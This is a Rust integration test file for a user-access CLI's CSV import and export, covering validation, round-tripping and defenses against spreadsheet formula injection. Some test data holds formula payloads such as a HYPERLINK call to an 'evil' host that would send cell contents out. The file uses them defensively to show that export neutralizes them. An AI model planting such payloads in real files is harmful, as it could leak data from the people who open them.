//! `rolecall import users` and `rolecall export users` against a SQLite
//! file, through the library entry point.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::sync::Arc;

use rolecall_model::Catalog;
use rolecall_server::ops::people;
use rolecall_server::{Principal, Service};
use rolecall_store::Store;

const HEADER: &str = "org,employee_id,first_name,last_name,email,user_id,status,roles,grants,denials,scheduler_type,scheduler_level,tasking_access";

mod common;

use common::{rolecall, Output};

/// A database with the organizations `acme` (Billing and Clinical
/// subscribed) and `beta`, created as the operator at the command line.
struct Database {
    dir: tempfile::TempDir,
    url: String,
}

impl Database {
    fn new() -> Database {
        let dir = tempfile::tempdir().unwrap();
        let url = dir.path().join("rolecall.db").to_str().unwrap().to_owned();
        common::create_acme_and_beta(&url);
        Database { dir, url }
    }

    fn revision(&self) -> i64 {
        let runtime = tokio::runtime::Runtime::new().unwrap();
        runtime.block_on(async {
            let service = open(&self.url).await;
            let revision = service.revision();
            service.store().close().await;
            revision
        })
    }

    fn file(&self, name: &str, rows: &[&str]) -> PathBuf {
        let path = self.dir.path().join(name);
        let mut text = format!("{HEADER}\n");
        for row in rows {
            text.push_str(row);
            text.push('\n');
        }
        std::fs::write(&path, text).unwrap();
        path
    }

    fn import(&self, file: &Path) -> Output {
        rolecall(&[
            "import",
            "users",
            "--database",
            &self.url,
            file.to_str().unwrap(),
        ])
    }

    fn export(&self, org: Option<&str>) -> Output {
        let mut args = vec!["export", "users", "--database", &self.url];
        if let Some(org) = org {
            args.extend(["--org", org]);
        }
        rolecall(&args)
    }

    /// Adds employees to acme through the service, as the API would, with
    /// these first and last names; their ids are `emp-0`, `emp-1`...
    fn add_employees(&self, names: &[(&str, &str)]) {
        let runtime = tokio::runtime::Runtime::new().unwrap();
        runtime.block_on(async {
            let service = open(&self.url).await;
            for (i, (first, last)) in names.iter().enumerate() {
                let employee = people::NewEmployee {
                    id: Some(format!("emp-{i}")),
                    first_name: (*first).to_owned(),
                    last_name: (*last).to_owned(),
                    email: format!("emp{i}@acme.test"),
                };
                people::create_employee(&service, &Principal::Cli, "test", "acme", employee)
                    .await
                    .unwrap();
            }
            service.store().close().await;
        });
    }

    /// Every employee's id, first and last name, by id.
    fn names(&self) -> Vec<(String, String, String)> {
        let runtime = tokio::runtime::Runtime::new().unwrap();
        runtime.block_on(async {
            let service = open(&self.url).await;
            let mut names: Vec<(String, String, String)> = service
                .live()
                .model
                .employees
                .values()
                .map(|e| (e.id.clone(), e.first_name.clone(), e.last_name.clone()))
                .collect();
            service.store().close().await;
            names.sort();
            names
        })
    }

    fn check(&self, user: &str, permission: &str, org: &str) -> Output {
        rolecall(&[
            "check",
            "--database",
            &self.url,
            "--user",
            user,
            "--permission",
            permission,
            "--org",
            org,
        ])
    }
}

async fn open(url: &str) -> Arc<Service> {
    let store = Store::open_with_key(url, common::audit_key(url))
        .await
        .unwrap();
    Service::open(store, Arc::new(Catalog::default_catalog()))
        .await
        .unwrap()
}

/// Ann administers acme; Bob bills in acme and is office staff in beta;
/// Cat is on acme's staff without a user.
const GOOD: [&str; 4] = [
    "acme,emp-ann,Ann,Admin,ann@acme.test,ann,active,web.system_admin,emr.edit_users;emr.clinic_admin;emr.analytics_access,,,,",
    "acme,emp-bob,Bob,Biller,bob@acme.test,bob,active,web.biller,emr.analytics_access;emr.billing_report_admin,,,,",
    "acme,emp-cat,Cat,Clerk,cat@acme.test,,,,,,,,",
    "beta,emp-bob,Bob,Biller,bob@acme.test,bob,active,web.office_staff,,,office_staff,,",
];

#[test]
fn a_good_file_imports_every_row_in_one_revision() {
    let db = Database::new();
    let before = db.revision();
    let file = db.file("users.csv", &GOOD);

    let output = db.import(&file);

    assert_eq!(output.code, 0, "{}", output.err);
    assert_eq!(
        output.out.trim(),
        format!(
            "imported 4 rows: 3 employees created, 0 updated, 2 users created, 0 updated; revision {}",
            before + 1
        )
    );
    assert_eq!(
        output.err, "",
        "no progress drawn when stderr is not a terminal"
    );
    assert_eq!(db.revision(), before + 1);
    assert_eq!(db.check("bob", "web.manage_charge_entries", "acme").code, 0);
    // The default Analytics role of a new membership, as through the API.
    assert_eq!(
        db.check("bob", "analytics.report.payer_mix", "acme").code,
        0
    );
    assert_eq!(db.check("bob", "web.manage_charge_entries", "beta").code, 1);
}

#[test]
fn importing_the_same_file_again_changes_nothing() {
    let db = Database::new();
    let file = db.file("users.csv", &GOOD);
    assert_eq!(db.import(&file).code, 0);
    let revision = db.revision();

    let output = db.import(&file);

    assert_eq!(output.code, 0, "{}", output.err);
    assert!(output
        .out
        .contains("0 employees created, 0 updated, 0 users created, 0 updated"));
    assert_eq!(db.revision(), revision);
}

#[test]
fn a_row_for_an_existing_user_replaces_its_access_in_that_org() {
    let db = Database::new();
    assert_eq!(db.import(&db.file("users.csv", &GOOD)).code, 0);
    let change = db.file(
        "change.csv",
        &["acme,emp-bob,Bob,Biller-Smith,bob@acme.test,bob,disabled,web.provider,,,,,"],
    );

    let output = db.import(&change);

    assert_eq!(output.code, 0, "{}", output.err);
    assert!(output
        .out
        .contains("0 employees created, 1 updated, 0 users created, 1 updated"));
    let export = db.export(Some("acme")).out;
    // The row's access, with the creation defaults: Standard Tasking access.
    assert!(
        export.contains(
            "acme,emp-bob,Bob,Biller-Smith,bob@acme.test,bob,disabled,web.provider,,,,,standard\n"
        ),
        "{export}"
    );
    // beta was not in the file: Bob keeps his access there.
    assert!(db.export(Some("beta")).out.contains("beta,emp-bob"));
}

#[test]
fn one_bad_row_imports_nothing_and_names_its_line_and_column() {
    let db = Database::new();
    let before = db.revision();
    let file = db.file(
        "users.csv",
        &[
            GOOD[0],
            GOOD[1],
            "acme,emp-dan,Dan,Doe,dan@acme.test,dan,,web.wizard,,,,,",
            GOOD[2],
        ],
    );

    let output = db.import(&file);

    assert_eq!(output.code, 2);
    assert!(
        output
            .err
            .contains("line 4, column roles: unknown role `web.wizard`"),
        "{}",
        output.err
    );
    assert!(output.err.ends_with("nothing was imported\n"));
    assert_eq!(output.out, "");
    assert_eq!(db.revision(), before, "not even the good rows");
}

#[test]
fn every_bad_row_is_reported_at_once() {
    let db = Database::new();
    let file = db.file(
        "users.csv",
        &[
            "acme,emp-eve,Eve,Ellis,eve-at-acme.test,eve,,,,,,,",
            "nowhere,emp-fay,Fay,Fox,fay@acme.test,fay,,,,,,,",
            "acme,emp-gus,Gus,Gray,gus@acme.test,gus,asleep,,,,,,",
        ],
    );

    let output = db.import(&file);

    assert_eq!(output.code, 2);
    let lines: Vec<&str> = output.err.lines().collect();
    assert!(
        lines[0].starts_with("line 2, column email: `eve-at-acme.test` is not an email address")
    );
    assert!(lines[1].starts_with("line 3, column org: unknown organization `nowhere`"));
    assert!(lines[2].starts_with("line 4, column status:"));
    assert_eq!(lines[3], "nothing was imported");
}

#[test]
fn an_employee_must_read_the_same_on_every_row() {
    let db = Database::new();
    let before = db.revision();
    let file = db.file(
        "users.csv",
        &[
            "acme,emp-bob,Bob,Biller,bob@acme.test,bob,active,web.biller,,,,,",
            "beta,emp-bob,Bob,Baker,bob@acme.test,bob,active,,,,,,",
        ],
    );

    let output = db.import(&file);

    assert_eq!(output.code, 2);
    assert!(
        output
            .err
            .contains("line 3, column last_name: employee `emp-bob` has `Biller` at line 2"),
        "{}",
        output.err
    );
    assert_eq!(db.revision(), before);
}

#[test]
fn a_membership_listed_twice_is_refused() {
    let db = Database::new();
    let file = db.file(
        "users.csv",
        &[
            "acme,emp-bob,Bob,Biller,bob@acme.test,bob,active,web.biller,,,,,",
            "acme,emp-bob,Bob,Biller,bob@acme.test,bob,active,web.provider,,,,,",
        ],
    );

    let output = db.import(&file);

    assert_eq!(output.code, 2);
    assert!(output
        .err
        .contains("line 3, column org: `bob` in `acme` is listed at line 2 already"));
}

#[test]
fn a_wrong_header_shows_the_format() {
    let db = Database::new();
    let path = db.dir.path().join("wrong.csv");
    std::fs::write(&path, "org,employee,first_name\nacme,emp-a,A\n").unwrap();

    let output = db.import(&path);

    assert_eq!(output.code, 2);
    assert!(output
        .err
        .contains("column 2 is `employee`, expected `employee_id`"));
    assert!(output.err.contains(HEADER));
}

#[test]
fn export_then_import_into_an_empty_database_gives_the_same_export() {
    let first = Database::new();
    assert_eq!(first.import(&first.file("users.csv", &GOOD)).code, 0);
    let exported = first.export(None);
    assert_eq!(exported.code, 0, "{}", exported.err);
    assert!(exported.out.starts_with(&format!("{HEADER}\n")));
    let second = Database::new();
    let path = second.dir.path().join("exported.csv");
    std::fs::write(&path, &exported.out).unwrap();

    let imported = second.import(&path);
    let again = second.export(None);

    assert_eq!(imported.code, 0, "{}", imported.err);
    assert_eq!(again.out, exported.out);
    // Sorted by organization, then user; Cat has no user.
    let rows: Vec<&str> = exported
        .out
        .lines()
        .skip(1)
        .map(|l| &l[..l.find(",emp-").unwrap() + 8])
        .collect();
    assert_eq!(
        rows,
        vec![
            "acme,emp-cat",
            "acme,emp-ann",
            "acme,emp-bob",
            "beta,emp-bob"
        ]
    );
}

/// Names an insider could set, which a spreadsheet would run as formulas
/// (and some that only look like the quoted form of one).
const FORMULAS: [(&str, &str); 4] = [
    ("=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+SUM(A1:A9)"),
    ("-1", "@cmd"),
    ("'=already quoted", "''+twice"),
    ("'abc", "O'Brien"),
];

#[test]
fn an_export_never_writes_a_cell_a_spreadsheet_would_run() {
    // Arrange
    let db = Database::new();
    db.add_employees(&FORMULAS);

    // Act
    let output = db.export(None);

    // Assert
    assert_eq!(output.code, 0, "{}", output.err);
    let mut reader = csv::Reader::from_reader(output.out.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let name = |id: &str| -> (String, String) {
        let row = rows.iter().find(|r| &r[1] == id).unwrap();
        (row[2].to_owned(), row[3].to_owned())
    };
    assert_eq!(
        name("emp-0"),
        (
            "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")".to_owned(),
            "'+SUM(A1:A9)".to_owned()
        )
    );
    assert_eq!(name("emp-1"), ("'-1".to_owned(), "'@cmd".to_owned()));
    assert_eq!(
        name("emp-2"),
        ("''=already quoted".to_owned(), "'''+twice".to_owned())
    );
    assert_eq!(name("emp-3"), ("'abc".to_owned(), "O'Brien".to_owned()));
}

#[test]
fn names_that_look_like_formulas_survive_export_then_import() {
    // Arrange
    let first = Database::new();
    first.add_employees(&FORMULAS);
    let exported = first.export(None);
    assert_eq!(exported.code, 0, "{}", exported.err);
    let second = Database::new();
    let path = second.dir.path().join("exported.csv");
    std::fs::write(&path, &exported.out).unwrap();

    // Act
    let imported = second.import(&path);

    // Assert
    assert_eq!(imported.code, 0, "{}", imported.err);
    assert_eq!(second.names(), first.names());
    assert_eq!(second.export(None).out, exported.out);
}

#[test]
fn exporting_an_unknown_org_fails() {
    let db = Database::new();

    let output = db.export(Some("nowhere"));

    assert_eq!(output.code, 2);
    assert!(output.err.contains("organization `nowhere` not found"));
    assert_eq!(output.out, "");
}

#[test]
fn an_import_cannot_leave_an_organization_without_an_administrator() {
    let db = Database::new();
    assert_eq!(db.import(&db.file("users.csv", &GOOD)).code, 0);
    let revision = db.revision();
    let demote = db.file(
        "demote.csv",
        &["acme,emp-ann,Ann,Admin,ann@acme.test,ann,active,web.provider,,,,,"],
    );

    let output = db.import(&demote);

    assert_eq!(output.code, 2);
    assert!(
        output.err.contains("without an administrator"),
        "{}",
        output.err
    );
    assert!(output.err.ends_with("nothing was imported\n"));
    assert_eq!(db.revision(), revision);
}

#[test]
fn a_name_that_begins_like_a_formula_is_exported_as_text_and_imported_back() {
    // Arrange: names, an email and an id a spreadsheet would run.
    let first = Database::new();
    let row = "acme,-emp-eve,=HYPERLINK(\"http://evil.test/?\"&A1),+Eve,-eve@acme.test,eve,active,web.office_staff,,,,,";
    assert_eq!(first.import(&first.file("users.csv", &[row])).code, 0);

    // Act
    let exported = first.export(None);
    let second = Database::new();
    let path = second.dir.path().join("exported.csv");
    std::fs::write(&path, &exported.out).unwrap();
    let imported = second.import(&path);

    // Assert: every such cell led by `'`, and read back as it was.
    assert!(
        exported.out.contains(
            "acme,'-emp-eve,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1)\",'+Eve,'-eve@acme.test,eve,"
        ),
        "{}",
        exported.out
    );
    assert_eq!(imported.code, 0, "{}", imported.err);
    assert_eq!(second.export(None).out, exported.out);
    assert!(second
        .export(None)
        .out
        .lines()
        .all(|line| !line.contains(",=") && !line.starts_with('=')));
}
